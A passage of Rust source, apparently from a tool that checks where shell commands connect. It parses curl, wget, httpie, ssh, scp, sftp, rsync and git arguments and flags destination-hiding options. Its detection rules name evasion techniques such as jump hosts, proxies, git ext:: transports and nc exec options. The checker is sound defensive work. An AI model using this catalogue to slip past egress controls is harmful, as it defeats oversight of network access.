                        .unwrap_or_else(|| curl_guess(word).to_string());
                    self.target(word, &scheme, &loc.src("curl URL", *idx))?;
                }
            }
        }
        Ok(())
    }

    fn wget(&mut self, args: &[String], loc: &Loc) -> Res {
        for t in &WGET.parse(args, false) {
            match t {
                Tok::Opt {
                    name,
                    value,
                    idx,
                    vidx,
                } => {
                    let src = loc.src("wget option", *idx);
                    if matches!(name.as_str(), "-e" | "-i" | "-H") || is_long(name, WGET_EVASIVE) {
                        return Err(ev(
                            format!(
                                "wget `{name}` reads commands or URLs from elsewhere, or follows links to other hosts"
                            ),
                            src,
                        ));
                    }
                    if is_long(name, &["header"]) && value.as_deref().is_some_and(host_header) {
                        return Err(ev(
                            "wget Host header sends the request to a different host than the URL names",
                            src,
                        ));
                    }
                    if let Some(v) = value {
                        self.scan_word(v, &loc.src("wget option value", *vidx))?;
                    }
                }
                Tok::Pos { word, idx } => self.target(word, "http", &loc.src("wget URL", *idx))?,
            }
        }
        Ok(())
    }

    fn httpie(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        let toks = HTTPIE.parse(args, false);
        let mut scheme = if prog == "https" || prog == "xhs" {
            "https".to_string()
        } else {
            "http".to_string()
        };
        let mut positionals = Vec::new();
        for t in &toks {
            match t {
                Tok::Opt {
                    name,
                    value,
                    idx,
                    vidx,
                } => {
                    if is_long(name, &["proxy", "resolve", "unix-socket"]) {
                        return Err(ev(
                            format!(
                                "`{prog} {name}` sends the request somewhere other than the URL's host"
                            ),
                            loc.src(&format!("{prog} option"), *idx),
                        ));
                    }
                    if name == "--https" {
                        scheme = "https".to_string();
                    }
                    if let Some(v) = value {
                        if is_long(name, &["default-scheme"]) {
                            scheme = v.to_ascii_lowercase();
                        }
                        self.scan_word(v, &loc.src(&format!("{prog} option value"), *vidx))?;
                    }
                }
                Tok::Pos { word, idx } => positionals.push((word.as_str(), *idx)),
            }
        }
        let mut rest = positionals.as_slice();
        if let [(first, _), (_, _), ..] = rest
            && (HTTP_METHODS.contains(first)
                || HTTP_METHODS.contains(&first.to_ascii_uppercase().as_str())
                || (first.len() > 1 && first.bytes().all(|b| b.is_ascii_uppercase())))
        {
            rest = rest.get(1..).unwrap_or(&[]);
        }
        let Some(((url, uidx), items)) = rest.split_first() else {
            return Ok(());
        };
        // httpie/xh shorthand: `:3000/x` is localhost:3000.
        let url = if let Some(r) = url.strip_prefix(':') {
            if r.starts_with('/') || r.is_empty() {
                format!("localhost{r}")
            } else {
                format!("localhost:{r}")
            }
        } else {
            url.to_string()
        };
        self.target(&url, &scheme, &loc.src(&format!("{prog} URL"), *uidx))?;
        for (item, idx) in items {
            let src = loc.src(&format!("{prog} request item"), *idx);
            // `Name:value` is a header item (`:=` is raw JSON, `==` query).
            if let Some((name, after)) = item.split_once(':')
                && !after.starts_with('=')
                && !name.contains('=')
                && name.trim().eq_ignore_ascii_case("host")
            {
                return Err(ev(
                    format!(
                        "`{prog}` Host header item sends the request to a different host than the URL names"
                    ),
                    src,
                ));
            }
            self.scan_word(item, &src)?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// ssh family

const SSH: Spec = Spec {
    short_val: "BbcDEeFIiJLlmOoPpQRSWw",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};
const SCP: Spec = Spec {
    short_val: "cDFiJloPSX",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};
const SFTP: Spec = Spec {
    short_val: "BbcDFiJloPRSsX",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};

/// `-o` options that do not change where ssh connects or run a command.
const SSH_HARMLESS: &[&str] = &[
    "user",
    "identityfile",
    "identitiesonly",
    "stricthostkeychecking",
    "userknownhostsfile",
    "globalknownhostsfile",
    "batchmode",
    "connecttimeout",
    "connectionattempts",
    "serveraliveinterval",
    "serveralivecountmax",
    "tcpkeepalive",
    "loglevel",
    "compression",
    "requesttty",
    "passwordauthentication",
    "pubkeyauthentication",
    "kbdinteractiveauthentication",
    "challengeresponseauthentication",
    "preferredauthentications",
    "forwardagent",
    "forwardx11",
    "forwardx11trusted",
    "exitonforwardfailure",
    "addkeystoagent",
    "hashknownhosts",
    "checkhostip",
    "updatehostkeys",
    "setenv",
    "sendenv",
    "ciphers",
    "macs",
    "kexalgorithms",
    "hostkeyalgorithms",
    "pubkeyacceptedkeytypes",
    "pubkeyacceptedalgorithms",
    "certificatefile",
    "addressfamily",
    "visualhostkey",
    "verifyhostkeydns",
    "escapechar",
    "numberofpasswordprompts",
    "ipqos",
    "rekeylimit",
    "gssapiauthentication",
    "gssapidelegatecredentials",
    "fingerprinthash",
    "nohostauthenticationforlocalhost",
    "hostkeyalias",
    "controlmaster",
    "controlpersist",
    "clearallforwardings",
    "streamlocalbindunlink",
    "identityagent",
    "enableescapecommandline",
    "logverbose",
    "obscurekeystroketiming",
    "requiredrsasize",
    "bindaddress",
    "bindinterface",
];

/// The host part of an scp-style `[user@]host:path` (no `/` before the
/// first `:` outside brackets), as git, scp and rsync read it.
fn scp_host(word: &str) -> Option<&str> {
    let mut depth = 0usize;
    for (i, c) in word.char_indices() {
        match c {
            '[' => depth += 1,
            ']' => depth = depth.saturating_sub(1),
            '/' if depth == 0 => return None,
            ':' if depth == 0 => {
                let prefix = word.get(..i)?;
                if prefix.is_empty() {
                    return None;
                }
                return prefix.rsplit('@').next();
            }
            _ => {}
        }
    }
    None
}

/// Split on `:` outside brackets (`-L [::1]:80:host:443`).
fn split_colons(s: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut start = 0;
    for (i, c) in s.char_indices() {
        match c {
            '[' => depth += 1,
            ']' => depth = depth.saturating_sub(1),
            ':' if depth == 0 => {
                out.push(s.get(start..i).unwrap_or(""));
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(s.get(start..).unwrap_or(""));
    out
}

impl Ctx {
    /// One ssh-family option. `port_flag` is `-p` (ssh) or `-P` (scp,
    /// sftp); `strict` makes `-D` an evasion (scp/sftp: local server
    /// program) rather than ssh's dynamic forward.
    #[allow(clippy::too_many_arguments)]
    fn ssh_opt(
        &mut self,
        prog: &str,
        name: &str,
        value: Option<&str>,
        src: &str,
        port: &mut Option<u16>,
        port_flag: &str,
        strict: bool,
    ) -> Res {
        match name {
            "-J" => Err(ev(format!("{prog} `-J` connects through a jump host"), src)),
            "-F" => Err(ev(
                format!("{prog} `-F` reads a config file that can alias or proxy the host"),
                src,
            )),
            "-S" => Err(ev(
                format!("{prog} `-S` reuses a control socket or runs another program to connect"),
                src,
            )),
            "-D" if strict => Err(ev(
                format!("{prog} `-D` runs a local server program instead of connecting"),
                src,
            )),
            "-o" => {
                let v = value.unwrap_or("").trim();
                let split = v
                    .find(|c: char| c == '=' || c.is_whitespace())
                    .unwrap_or(v.len());
                let key = v.get(..split).unwrap_or(v).to_ascii_lowercase();
                let val = v
                    .get(split..)
                    .unwrap_or("")
                    .trim_start_matches(|c: char| c == '=' || c.is_whitespace());
                if key == "port" {
                    *port = port_value(val, src)?;
                    Ok(())
                } else if SSH_HARMLESS.contains(&key.as_str()) {
                    Ok(())
                } else {
                    Err(ev(
                        format!("{prog} `-o {v}` can redirect the connection or run a command"),
                        src,
                    ))
                }
            }
            n if n == port_flag => {
                *port = port_value(value.unwrap_or(""), src)?;
                Ok(())
            }
            "-L" | "-W" if prog == "ssh" => {
                let v = value.unwrap_or("");
                let parts = split_colons(v);
                if parts.len() >= 2 && (name == "-W" || parts.len() >= 3) {
                    let n = parts.len();
                    let host = parts.get(n - 2).copied().unwrap_or("");
                    let p = parts.get(n - 1).copied().unwrap_or("");
                    let host = known_host(host, src)?;
                    let p = port_value(p, src)?;
                    self.push(host, p, src.to_string());
                }
                Ok(())
            }
            _ => Ok(()),
        }
    }

    fn ssh(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut port = None;
        let toks = SSH.parse(args, true);
        let mut host_idx = None;
        for t in &toks {
            match t {
                Tok::Opt {
                    name, value, idx, ..
                } => {
                    let src = loc.src("ssh option", *idx);
                    self.ssh_opt("ssh", name, value.as_deref(), &src, &mut port, "-p", false)?;
                }
                Tok::Pos { idx, .. } => {
                    host_idx = Some(*idx);
                    break;
                }
            }
        }
        let Some(h) = host_idx else {
            return Ok(());
        };
        // OpenSSH also reads options placed after the destination.
        let after = tail(args, h + 1);
        let aloc = loc.shift(h + 1);
        let mut cmd_idx = None;
        for t in &SSH.parse(after, true) {
            match t {
                Tok::Opt {
                    name, value, idx, ..
                } => {
                    let src = aloc.src("ssh option", *idx);
                    self.ssh_opt("ssh", name, value.as_deref(), &src, &mut port, "-p", false)?;
                }
                Tok::Pos { idx, .. } => {
                    cmd_idx = Some(*idx);
                    break;
                }
            }
        }
        let word = get(args, h).unwrap_or("");
        let src = loc.src("ssh host", h);
        if let Some((scheme, rest)) = split_url(word) {
            self.url(&scheme, rest, &src)?;
        } else {
            let host = word.rsplit('@').next().unwrap_or(word);
            let host = known_host(host, &src)?;
            self.push(host, port.or(Some(22)), src);
        }
        if let Some(c) = cmd_idx {
            // The remote side runs the words joined by spaces as a script.
            let script = tail(after, c).join(" ");
            self.script(&script, &aloc.nested("ssh remote command", c))?;
        }
        Ok(())
    }

    fn scp(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut port = None;
        let mut operands = Vec::new();
        for t in &SCP.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, idx, ..
                } => {
                    let src = loc.src("scp option", *idx);
                    self.ssh_opt("scp", name, value.as_deref(), &src, &mut port, "-P", true)?;
                }
                Tok::Pos { word, idx } => operands.push((word.clone(), *idx)),
            }
        }
        for (word, idx) in operands {
            let src = loc.src("scp operand", idx);
            if let Some((scheme, rest)) = split_url(&word) {
                self.url(&scheme, rest, &src)?;
            } else if let Some(h) = scp_host(&word) {
                let host = known_host(h, &src)?;
                self.push(host, port.or(Some(22)), src);
            }
        }
        Ok(())
    }

    fn sftp(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut port = None;
        let mut dest = None;
        for t in &SFTP.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, idx, ..
                } => {
                    let src = loc.src("sftp option", *idx);
                    self.ssh_opt("sftp", name, value.as_deref(), &src, &mut port, "-P", true)?;
                }
                Tok::Pos { word, idx } => {
                    if dest.is_none() {
                        dest = Some((word.clone(), *idx));
                    }
                }
            }
        }
        let Some((word, idx)) = dest else {
            return Ok(());
        };
        let src = loc.src("sftp host", idx);
        if let Some((scheme, rest)) = split_url(&word) {
            return self.url(&scheme, rest, &src);
        }
        let h = scp_host(&word).unwrap_or_else(|| word.rsplit('@').next().unwrap_or(&word));
        let host = known_host(h, &src)?;
        self.push(host, port.or(Some(22)), src);
        Ok(())
    }

    /// rsync `-e`: only plain `ssh` with harmless options is checkable.
    fn rsync_rsh(&mut self, value: &str, src: &str) -> Result<Option<u16>, Evasion> {
        let words: Vec<String> = value.split_whitespace().map(str::to_string).collect();
        if words.first().map(|w| basename(w)) != Some("ssh") {
            return Err(ev(
                format!(
                    "rsync `-e {value}` runs another program to connect; its destination cannot be checked"
                ),
                src,
            ));
        }
        let mut port = None;
        for t in &SSH.parse(tail(&words, 1), false) {
            match t {
                Tok::Opt { name, value, .. } => {
                    self.ssh_opt("ssh", name, value.as_deref(), src, &mut port, "-p", false)?;
                }
                Tok::Pos { word, .. } => {
                    return Err(ev(
                        format!(
                            "rsync `-e` passes `{word}` to ssh; its destination cannot be checked"
                        ),
                        src,
                    ));
                }
            }
        }
        Ok(port)
    }

    fn rsync(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut ssh_port = None;
        let mut daemon_port = None;
        let mut operands = Vec::new();
        for t in &RSYNC.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, idx, ..
                } => {
                    let src = loc.src("rsync option", *idx);
                    if name == "-e" || is_long(name, &["rsh"]) {
                        ssh_port = self.rsync_rsh(value.as_deref().unwrap_or(""), &src)?;
                    } else if is_long(name, &["port"]) {
                        daemon_port = port_value(value.as_deref().unwrap_or(""), &src)?;
                    } else if is_long(name, &["connect-program"]) {
                        return Err(ev(
                            "rsync `--connect-program` runs another program to connect",
                            src,
                        ));
                    }
                }
                Tok::Pos { word, idx } => operands.push((word.clone(), *idx)),
            }
        }
        for (word, idx) in operands {
            let src = loc.src("rsync operand", idx);
            if let Some((scheme, rest)) = split_url(&word) {
                self.url(&scheme, rest, &src)?;
            } else if let Some((hp, _)) = word.split_once("::")
                && !hp.contains('/')
                && !hp.is_empty()
            {
                let h = hp.rsplit('@').next().unwrap_or(hp);
                let host = known_host(h, &src)?;
                self.push(host, daemon_port.or(Some(873)), src);
            } else if let Some(h) = scp_host(&word) {
                let host = known_host(h, &src)?;
                self.push(host, ssh_port.or(Some(22)), src);
            }
        }
        Ok(())
    }
}

const RSYNC: Spec = Spec {
    short_val: "efBTM@",
    short_attached: "",
    long_val: &[
        "rsh",
        "exclude",
        "include",
        "filter",
        "files-from",
        "port",
        "password-file",
        "log-file",
        "log-file-format",
        "out-format",
        "chmod",
        "timeout",
        "contimeout",
        "bwlimit",
        "partial-dir",
        "temp-dir",
        "compare-dest",
        "copy-dest",
        "link-dest",
        "backup-dir",
        "block-size",
        "max-size",
        "min-size",
        "suffix",
        "rsync-path",
        "address",
        "sockopts",
        "info",
        "debug",
        "usermap",
        "groupmap",
        "chown",
        "remote-option",
        "iconv",
        "checksum-choice",
        "compress-choice",
        "compress-level",
        "stop-after",
        "stop-at",
        "write-batch",
        "read-batch",
        "only-write-batch",
        "exclude-from",
        "include-from",
        "max-delete",
        "modify-window",
        "skip-compress",
        "outbuf",
        "copy-as",
        "early-input",
        "connect-program",
        "checksum-seed",
        "max-alloc",
        "zc",
        "cc",
        "log-format",
        "config",
        "dparam",
    ],
    long_val_prefix: &[],
};

// ---------------------------------------------------------------------------
// git

/// `git -c` keys known not to change where git connects or what it runs.
fn git_key_harmless(key: &str, value: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "user.", "color.", "advice.", "i18n.", "log.", "status.", "column.",
    ];
    const EXACT: &[&str] = &[
        "core.quotepath",
        "core.autocrlf",
        "core.safecrlf",
        "core.filemode",
        "core.ignorecase",
        "core.longpaths",
        "core.precomposeunicode",
        "core.whitespace",
        "core.abbrev",
        "core.eol",
        "core.symlinks",
        "init.defaultbranch",
        "pull.rebase",
        "pull.ff",
        "push.default",
        "push.autosetupremote",
        "push.followtags",
        "safe.directory",
        "commit.gpgsign",
        "tag.gpgsign",
        "fetch.prune",
        "fetch.prunetags",
        "fetch.parallel",
        "merge.ff",
        "rebase.autostash",
        "rebase.autosquash",
        "protocol.version",
        "gc.auto",
        "maintenance.auto",
        "help.autocorrect",
        "http.sslverify",
        "http.version",
        "http.postbuffer",
        "http.lowspeedlimit",
        "http.lowspeedtime",
        "pack.threads",
        "checkout.workers",
        "feature.manyfiles",
        "index.threads",
        "diff.renames",
        "diff.algorithm",
        "merge.conflictstyle",
        "core.pager",
        "pager.branch",
        "pager.log",
    ];
    PREFIXES.iter().any(|p| key.starts_with(p))
        || EXACT.contains(&key)
        || (key == "credential.helper" && value.is_empty())
}

/// Git subcommands that never use the network.
const GIT_LOCAL: &[&str] = &[
    "status",
    "log",
    "diff",
    "add",
    "commit",
    "checkout",
    "switch",
    "branch",
    "tag",
    "merge",
    "rebase",
    "reset",
    "restore",
    "stash",
    "show",
    "config",
    "init",
    "rev-parse",
    "describe",
    "blame",
    "grep",
    "mv",
    "rm",
    "clean",
    "cherry-pick",
    "revert",
    "bisect",
    "worktree",
    "gc",
    "fsck",
    "reflog",
    "shortlog",
    "format-patch",
    "am",
    "apply",
    "notes",
    "sparse-checkout",
    "cat-file",
    "ls-files",
    "ls-tree",
    "for-each-ref",
    "symbolic-ref",
    "update-ref",
    "hash-object",
    "version",
    "help",
    "var",
    "whatchanged",
    "range-diff",
    "count-objects",
    "prune",
    "repack",
    "maintenance",
    "commit-graph",
    "multi-pack-index",
    "show-ref",
    "show-branch",
    "name-rev",
    "cherry",
    "verify-commit",
    "verify-tag",
    "write-tree",
    "read-tree",
    "update-index",
    "check-ignore",
    "check-attr",
    "mktag",
    "mktree",
    "rerere",
    "bundle",
    "merge-base",
    "rev-list",
    "diff-tree",
    "diff-files",
    "diff-index",
    "citool",
    "gui",
    "gitk",
    "instaweb",
    "daemon",
    "http-backend",
];

const GIT_REMOTE_OPTS: Spec = Spec {
    short_val: "ojsX",
    short_attached: "S",
    long_val: &[
        "push-option",
        "server-option",
        "depth",
        "deepen",
        "shallow-since",
        "shallow-exclude",
        "refmap",
        "jobs",
        "negotiation-tip",
        "filter",
        "strategy",
        "strategy-option",
        "repo",
        "upload-pack",
        "receive-pack",
        "exec",
        "recurse-submodules-default",
        "cleanup",
        "sort",
        "reference",
        "origin",
    ],
    long_val_prefix: &[],
};

const GIT_CLONE: Spec = Spec {
    short_val: "obucj",
    short_attached: "",
    long_val: &[
        "origin",
        "branch",
        "upload-pack",
        "template",
        "config",
        "depth",
        "shallow-since",
        "shallow-exclude",
        "reference",
        "reference-if-able",
        "separate-git-dir",
        "jobs",
        "filter",
        "server-option",
        "bundle-uri",
        "revision",
        "ref-format",
    ],
    long_val_prefix: &[],
};

impl Ctx {
    fn git_config(&mut self, kv: &str, src: &str) -> Res {
        let (key, value) = kv.split_once('=').unwrap_or((kv, ""));
        let key = key.to_ascii_lowercase();
        if git_key_harmless(&key, value) {
            return Ok(());
        }
        Err(ev(
            format!(
                "git config `{key}` set on the command line is not known to be harmless: it could change where git connects or run a program"
            ),
            src,
        ))
    }

    /// A repository argument. `Ok(true)`: handled (destination pushed, or
    /// a local path); `Ok(false)`: a bare word that may be a remote name.
    fn git_repo(&mut self, word: &str, src: &str) -> Result<bool, Evasion> {
        if let Some((helper, addr)) = word.split_once("::")
            && is_scheme(helper)
        {
            let h = helper.to_ascii_lowercase();
            if h == "ext" || h == "fd" {
                return Err(ev(
                    format!(
                        "git `{h}::` transport runs a command or uses a file descriptor instead of connecting"
                    ),
                    src,
                ));
            }
            if self.git_repo(addr, src)? {
                return Ok(true);
            }
            return Err(ev(
                format!(
                    "git remote helper `{h}::{addr}` reaches a destination that cannot be checked"
                ),
                src,
            ));
        }
        if let Some((scheme, rest)) = split_url(word) {
            self.url(&scheme, rest, src)?;
            return Ok(true);
        }
        if word.starts_with(['/', '~'])
            || word.starts_with("./")
            || word.starts_with("../")
            || word == "."
            || word == ".."
        {
            return Ok(true);
        }
        if let Some(h) = scp_host(word) {
            let host = known_host(h, src)?;
            self.push(host, Some(22), src.to_string());
            return Ok(true);
        }
        Ok(false)
    }

    fn git(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut i = 0;
        while let Some(w) = get(args, i) {
            if w == "-C" {
                i += 2;
                continue;
            }
            if w == "-c" {
                let kv = get(args, i + 1).unwrap_or("");
                self.git_config(kv, &loc.src("git -c", i + 1))?;
                i += 2;
                continue;
            }
            if let Some(long) = w.strip_prefix("--") {
                let (name, has_value) = match long.split_once('=') {
                    Some((n, _)) => (n, true),
                    None => (long, false),
                };
                if name == "config-env" {
                    let v = if has_value {
                        long.split_once('=').map_or("", |(_, v)| v)
                    } else {
                        get(args, i + 1).unwrap_or("")
                    };
                    let key = v.split('=').next().unwrap_or(v).to_ascii_lowercase();
                    if !git_key_harmless(&key, "x") {
                        return Err(ev(
                            format!(
                                "git `--config-env` sets `{key}` from the environment: it could change where git connects"
                            ),
                            loc.src("git option", i),
                        ));
                    }
                }
                let takes = matches!(
                    name,
                    "git-dir"
                        | "work-tree"
                        | "namespace"
                        | "super-prefix"
                        | "config-env"
                        | "attr-source"
                );
                i += if takes && !has_value { 2 } else { 1 };
                continue;
            }
            if w.starts_with('-') {
                i += 1;
                continue;
            }
            break;
        }
        let Some(sub) = get(args, i) else {
            return Ok(());
        };
        let sargs = tail(args, i + 1);
        let sloc = loc.shift(i + 1);
        match sub {
            "clone" => self.git_clone(sargs, &sloc),
            "fetch" | "pull" | "push" | "ls-remote" => self.git_remote_op(sub, sargs, &sloc),
            "remote" => self.git_remote_cmd(sargs, &sloc),
            "submodule" => self.git_submodule(sargs, &sloc),
            "archive" => self.git_archive(sargs, &sloc),
            "lfs" => match get(sargs, 0) {
                Some(s @ ("push" | "pull" | "fetch" | "clone" | "pre-push" | "smudge")) => Err(ev(
                    format!(
                        "git lfs {s} talks to the LFS endpoint of a configured remote, which argv cannot show"
                    ),
                    sloc.src("git lfs", 0),
                )),
                _ => Ok(()),
            },
            "send-email" => Err(ev(
                "git send-email uses the SMTP server from git configuration, which argv cannot show",
                loc.src("git", i),
            )),
            s if GIT_LOCAL.contains(&s) => Ok(()),
            // svn, p4, request-pull, aliases…: what we can see.
            _ => self.scan_all(sargs, &sloc, "git argument"),
        }
    }

    fn git_clone(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut repo_done = false;
        for t in &GIT_CLONE.parse(args, false) {
            match t {
                Tok::Opt {
                    name,
                    value,
                    idx,
                    vidx,
                } => {
                    let src = loc.src("git clone option", *idx);
                    if name == "-u" || is_long(name, &["upload-pack", "template"]) {
                        return Err(ev(
                            format!("git clone `{name}` runs a program of the caller's choosing"),
                            src,
                        ));
                    }
                    if is_long(name, &["recurse-submodules", "recursive"]) {
                        return Err(ev(
                            "git clone --recurse-submodules fetches submodule URLs from the repository, which argv cannot show",
                            src,
                        ));
                    }
                    if name == "-c" || is_long(name, &["config"]) {
                        self.git_config(
                            value.as_deref().unwrap_or(""),
                            &loc.src("git clone -c", *vidx),
                        )?;
                    }
                    if is_long(name, &["bundle-uri"])
                        && let Some(v) = value
                    {
                        self.target(v, "https", &loc.src("git clone --bundle-uri", *vidx))?;
                    }
                }
                Tok::Pos { word, idx } => {
                    if !repo_done {
                        repo_done = true;
                        // A bare word here is a local directory, never a
                        // remote name.
                        self.git_repo(word, &loc.src("git clone repository", *idx))?;
                    }
                }
            }
        }
        Ok(())
    }

    fn git_remote_op(&mut self, sub: &str, args: &[String], loc: &Loc) -> Res {
        let mut repo: Option<(String, usize)> = None;
        let mut first_pos: Option<(String, usize)> = None;
        for t in &GIT_REMOTE_OPTS.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, idx, ..
                } => {
                    let src = loc.src(&format!("git {sub} option"), *idx);
                    if is_long(name, &["upload-pack", "receive-pack", "exec"]) {
                        return Err(ev(
                            format!("git {sub} `{name}` runs a program of the caller's choosing"),
                            src,
                        ));
                    }
                    if name.starts_with("--recurse-submodules")
                        && !name.starts_with("--recurse-submodules-default")
                        && value.as_deref() != Some("no")
                    {
                        return Err(ev(
                            format!(
                                "git {sub} --recurse-submodules reaches submodule remotes, which argv cannot show"
                            ),
                            src,
                        ));
                    }
                    if sub == "fetch" && is_long(name, &["all", "multiple"]) {
                        return Err(ev(
                            "git fetch --all/--multiple uses configured remotes, which argv cannot show",
                            src,
                        ));
                    }
                    if is_long(name, &["repo"])
                        && let Some(v) = value
                    {
                        repo = Some((v.clone(), *idx));
                    }
                }
                Tok::Pos { word, idx } => {
                    if first_pos.is_none() {
                        first_pos = Some((word.clone(), *idx));
                    }
                }
            }
        }
        let Some((word, idx)) = repo.or(first_pos) else {
            return Err(ev(
                format!(
                    "git {sub} without a repository uses the configured remote, which argv cannot show; pass the URL"
                ),
                loc.src(&format!("git {sub}"), 0),
            ));
        };
        let src = loc.src(&format!("git {sub} repository"), idx);
        if self.git_repo(&word, &src)? {
            return Ok(());
        }
        Err(ev(
            format!(
                "git remote name `{word}` cannot be resolved from the command line; pass the URL instead"
            ),
            src,
        ))
    }

    fn git_remote_cmd(&mut self, args: &[String], loc: &Loc) -> Res {
        let pos: Vec<(usize, &String)> = args
            .iter()
            .enumerate()
            .filter(|(_, w)| !w.starts_with('-'))
            .collect();
        let flags: Vec<&String> = args.iter().filter(|w| w.starts_with('-')).collect();
        let Some((_, sub)) = pos.first() else {
            return Ok(());
        };
        let network = match sub.as_str() {
            "update" | "prune" => true,
            "show" => !flags.iter().any(|f| f.as_str() == "-n"),
            "set-head" => flags
                .iter()
                .any(|f| f.as_str() == "-a" || f.as_str() == "--auto"),
            "add" => {
                if flags
                    .iter()
                    .any(|f| f.as_str() == "-f" || f.as_str() == "--fetch")
                    && let Some((idx, url)) = pos.last()
                {
                    let src = loc.src("git remote add URL", *idx);
                    if !self.git_repo(url, &src)? {
                        return Err(ev(
                            format!("`{url}` is not a URL git can be checked against"),
                            src,
                        ));
                    }
                }
                false
            }
            _ => false,
        };
        if network {
            return Err(ev(
                format!("git remote {sub} contacts configured remotes, which argv cannot show"),
                loc.src("git remote", 0),
            ));
        }
        Ok(())
    }

    fn git_submodule(&mut self, args: &[String], loc: &Loc) -> Res {
        let Some(sub) = args.iter().find(|w| !w.starts_with('-')) else {
            return Ok(());
        };
        match sub.as_str() {
            "add" => {
                let mut i = args.iter().position(|w| w == "add").map_or(0, |p| p + 1);
                while let Some(w) = get(args, i) {
                    if matches!(w, "-b" | "--branch" | "--name" | "--reference" | "--depth") {
                        i += 2;
                    } else if w.starts_with('-') {
                        i += 1;
                    } else {
                        let src = loc.src("git submodule add URL", i);
                        if w.starts_with("./") || w.starts_with("../") {
                            return Err(ev(
                                "relative submodule URL is resolved against a configured remote, which argv cannot show",
                                src,
                            ));
                        }
                        self.git_repo(w, &src)?;
                        return Ok(());
                    }
                }
                Ok(())
            }
            "update" | "foreach" => Err(ev(
                format!(
                    "git submodule {sub} reaches URLs or runs commands from repository configuration, which argv cannot show"
                ),
                loc.src("git submodule", 0),
            )),
            _ => Ok(()),
        }
    }

    fn git_archive(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut i = 0;
        while let Some(w) = get(args, i) {
            let (name, value, vidx) = match w.split_once('=') {
                Some((n, v)) => (n, Some(v), i),
                None => (w, get(args, i + 1), i + 1),
            };
            if name == "--exec" {
                return Err(ev(
                    "git archive `--exec` runs a program of the caller's choosing",
                    loc.src("git archive option", i),
                ));
            }
            if name == "--remote" {
                let v = value.unwrap_or("");
                let src = loc.src("git archive --remote", vidx);
                if !self.git_repo(v, &src)? {
                    return Err(ev(
                        format!(
                            "git remote name `{v}` cannot be resolved from the command line; pass the URL instead"
                        ),
                        src,
                    ));
                }
            }
            i += 1;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Database clients, nc, telnet, socat

const REDIS: Spec = Spec {
    short_val: "hpsaunridD",
    short_attached: "",
    long_val: &[
        "user",
        "pass",
        "sni",
        "cacert",
        "cacertdir",
        "cert",
        "key",
        "tls-ciphers",
        "tls-ciphersuites",
        "rdb",
        "functions-rdb",
        "pipe-timeout",
        "pattern",
        "count",
        "quoted-pattern",
        "intrinsic-latency",
        "eval",
        "memkeys-samples",
        "askpass-file",
    ],
    long_val_prefix: &[],
};
const PSQL: Spec = Spec {
    short_val: "cdfFhLoPpRTUv",
    short_attached: "",
    long_val: &[
        "command",
        "dbname",
        "file",
        "field-separator",
        "host",
        "log-file",
        "output",
        "pset",
        "port",
        "record-separator",
        "table-attr",
        "username",
        "set",
        "variable",
    ],
    long_val_prefix: &[],
};
const PG_TOOLS: Spec = Spec {
    short_val: "bcdDEfFhIjlLMnNOpPsStTUZ",
    short_attached: "",
    long_val: &[
        "dbname",
        "file",
        "format",
        "host",
        "jobs",
        "schema",
        "exclude-schema",
        "table",
        "exclude-table",
        "compress",
        "encoding",
        "superuser",
        "username",
        "port",
        "role",
        "lock-wait-timeout",
        "section",
        "index",
        "function",
        "trigger",
        "use-list",
        "owner",
        "template",
        "tablespace",
        "locale",
        "lc-collate",
        "lc-ctype",
        "timeout",
        "client",
        "clients",
        "transactions",
        "time",
        "scale",
        "protocol",
        "maintenance-db",
    ],
    long_val_prefix: &[],
};
const MYSQL: Spec = Spec {
    short_val: "hPuDeSrTw",
    short_attached: "p",
    long_val: &[
        "host",
        "port",
        "user",
        "database",
        "execute",
        "socket",
        "protocol",
        "init-command",
        "ssl-ca",
        "ssl-cert",
        "ssl-key",
        "ssl-mode",
        "ssl-cipher",
        "tls-version",
        "tls-ciphersuites",
        "bind-address",
        "default-character-set",
        "character-sets-dir",
        "pager",
        "prompt",
        "tee",
        "connect-timeout",
        "max-allowed-packet",
        "net-buffer-length",
        "plugin-dir",
        "default-auth",
        "compression-algorithms",
        "delimiter",
        "result-file",
        "where",
        "tab",
        "fields-terminated-by",
        "ignore-table",
        "login-path",
        "defaults-file",
        "defaults-extra-file",
        "defaults-group-suffix",
    ],
    long_val_prefix: &[],
};
const MONGO: Spec = Spec {
    short_val: "up",
    short_attached: "",
    long_val: &[
        "host",
        "port",
        "username",
        "password",
        "authenticationDatabase",
        "authenticationMechanism",
        "eval",
        "file",
        "tlsCAFile",
        "tlsCertificateKeyFile",
        "tlsCertificateKeyFilePassword",
        "apiVersion",
        "gssapiServiceName",
        "awsAccessKeyId",
        "awsSecretAccessKey",
        "awsSessionToken",
        "tlsCRLFile",
        "keyVaultNamespace",
        "kmsURL",
        "sslPEMKeyFile",
        "sslCAFile",
    ],
    long_val_prefix: &[],
};
const NC: Spec = Spec {
    short_val: "eiIMmOpPqsTVwWxXgGo",
    short_attached: "",
    long_val: &[
        "proxy",
        "proxy-type",
        "proxy-auth",
        "proxy-dns",
        "exec",
        "sh-exec",
        "lua-exec",
        "allow",
        "allowfile",
        "deny",
        "denyfile",
        "source-port",
        "source",
        "wait",
        "idle-timeout",
        "output",
        "hex-dump",
        "max-conns",
        "ssl-cert",
        "ssl-key",
        "ssl-trustfile",
        "ssl-ciphers",
        "ssl-servername",
        "ssl-alpn",
        "delay",
    ],
    long_val_prefix: &[],
};
const NCAT: Spec = Spec {
    short_val: "ceiIMmOpPqsTVwWxXgGo",
    short_attached: "",
    long_val: NC.long_val,
    long_val_prefix: &[],
};
const TELNET: Spec = Spec {
